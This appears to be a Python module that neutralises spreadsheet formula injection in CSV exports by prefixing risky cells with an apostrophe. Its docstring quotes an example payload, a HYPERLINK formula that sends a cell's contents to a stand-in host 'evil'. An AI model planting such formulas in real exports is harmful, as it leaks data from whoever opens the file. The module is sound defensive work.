"""CSV that no spreadsheet will run: every CSV the system writes goes through this module.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula ("CSV injection"): a User-Agent of
``=HYPERLINK("http://evil/?"&A1,"Open")`` or a reason of ``=1+2`` would run when an auditor
opens the export. Such a cell is written with a leading apostrophe, which the spreadsheet
shows as text and does not display; the value is otherwise unchanged. Numbers (int, float,
Decimal) are written as they are: a number is never a formula.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """One cell, neutralised if a spreadsheet would read it as a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def row(values: Iterable[Any]) -> list[Any]:
    return [cell(value) for value in values]


class SafeWriter:
    """``csv.writer`` whose every row is neutralised; the only CSV writer the code uses."""

    def __init__(self, handle, **kwargs):
        self._writer = csv.writer(handle, **kwargs)

    def writerow(self, values: Iterable[Any]):
        return self._writer.writerow(row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for values in rows:
            self.writerow(values)


def writer(handle, **kwargs) -> SafeWriter:
    return SafeWriter(handle, **kwargs)
